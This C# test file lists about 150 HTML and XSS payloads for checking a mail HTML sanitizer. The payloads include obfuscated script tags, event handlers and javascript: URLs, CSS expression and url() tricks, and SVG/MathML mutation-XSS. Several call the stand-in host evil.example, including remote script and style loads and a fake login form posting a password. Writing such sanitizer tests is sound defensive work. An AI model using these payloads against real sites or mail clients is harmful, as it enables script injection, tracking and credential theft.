namespace Support.Mail.Tests.Html;

/// <summary>Ways in which people have tried to get something past a cleaner of HTML.</summary>
internal static class Attacks
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Scripts and what runs like one.
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<script >alert(1)</script >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<script><!--<script></script>alert(1)</script>-->",
        "<ScRiPt\n>alert(1)</sCrIpT\t>", "\0<scr\0ipt>alert(1)</script>", "<script\u0000>alert(1)</script>", "</script><script>alert(1)</script>",
        // Handlers.
        "<img src=x onerror=alert(1)>", "<img src=x oNeRrOr=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=x onerror\n=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src onerror /\" '\"= alt=alert(1)//\">", "<body onload=alert(1)>", "<div onmouseover='alert(1)'>x</div>",
        "<a onclick=alert(1) href=https://ok.example>x</a>", "<p/onclick=alert(1)>x", "<b =onclick=alert(1)>x</b>", "<b \u00a0onclick=alert(1)>x</b>", "<img \u000conerror=alert(1) src=x>",
        "<b onclick&equals;alert(1)>x</b>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<input autofocus onfocus=alert(1)>",
        // Addresses.
        "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='\u200bjavascript:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>", "<a href='feed:javascript:alert(1)'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='//evil.example'>x</a>",
        "<a href='\\\\evil.example'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='ms-word:ofe|u|https://evil.example'>x</a>", "<a xlink:href='javascript:alert(1)'>x</a>",
        "<a href='http:javascript:alert(1)\" onclick=\"alert(1)'>x</a>", "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>", "<a href=\"https://ok.example\" rel=opener target=_top>x</a>",
        "<img src='javascript:alert(1)'>", "<img src='data:text/html;base64,PHNjcmlwdD4='>", "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=x>", "<img src='data:image/png;base64,x\" onerror=\"alert(1)'>",
        "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>", "<img srcset='https://evil.example/x 1x' src='cid:a'>", "<img src='//evil.example/x.gif' alt=x>", "<img src='cid:a' style=\"background:url(https://evil.example/x)\">",
        "<table background='https://evil.example/x'><tr><td background=javascript:alert(1)>x</td></tr></table>", "<blockquote cite='javascript:alert(1)'>x</blockquote>", "<base href='https://evil.example/'><a href='/x'>x</a>",
        // Styles.
        "<style>@import 'https://evil.example/x.css';</style>x", "<style>*{background:url(https://evil.example)}</style>x", "<style></style><img src=x onerror=alert(1)></style>", "<link rel=stylesheet href=https://evil.example>",
        "<div style='background:url(javascript:alert(1))'>x</div>", "<div style='background-image:url(https://evil.example/x)'>x</div>", "<div style='width:expression(alert(1))'>x</div>", "<div style='width:ex/**/pression(alert(1))'>x</div>",
        "<div style='background:\\75rl(https://evil.example)'>x</div>", "<div style='-moz-binding:url(https://evil.example)'>x</div>", "<div style='behavior:url(x.htc)'>x</div>", "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style=\"font-family:'a;color:red;background:url(https://evil.example)'\">x</div>", "<div style='color:red&#59;background:url&#40;https://evil.example&#41;'>x</div>", "<div style='margin-top:-500px'>x</div>",
        "<div style='list-style-image:url(https://evil.example)'>x</div>", "<div style='content:\"</style><script>alert(1)</script>\"'>x</div>", "<div style='background:image-set(\"https://evil.example\" 1x)'>x</div>",
        // Foreign content, and what is parsed otherwise the second time.
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math></style></mglyph></table></mtext></math>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">", "<svg><foreignObject><p><script>alert(1)</script></p></foreignObject></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<template><script>alert(1)</script></template>", "<select><template><img src=x onerror=alert(1)></template></select>", "<select><style></select><img src=x onerror=alert(1)></style>", "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "<a title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">x</a>", "<b title='</b><img src=x onerror=alert(1)>'>x</b>", "<img alt=\"``onerror=alert(1)\" src=cid:a>", "<p title=\"&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
        "<table><tr><td><a></table><a>x", "<table><b><tr><td>x</b></table>", "<a><table><td><a><table></table><a></tr><a></table><b>X</b>", "<p><table><p><table><p>x", "<b><i><u><s><p>x</b>y</i>z</u></s>", "<li><ul><li><table><li>x</table>", "<pre>\n\n\nx</pre>", "<dl><dt><dl><dd><p>x<dt>y",
        // Forms, frames, redirects.
        "<form action=https://evil.example><input name=password><button>Log in</button></form>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>x</object>", "<embed src=javascript:alert(1)>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<frameset><frame src=javascript:alert(1)></frameset>", "<isindex action=javascript:alert(1) type=image>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
        "<portal src='https://evil.example'>", "<link rel=import href='https://evil.example'>", "<img name=cookie id=body src=cid:x>", "<a id=location href=https://ok.example name=attributes>x</a>", "<div contenteditable onblur=alert(1)>x</div>", "<a ping='https://evil.example' href='https://ok.example'>x</a>",
    ];
}
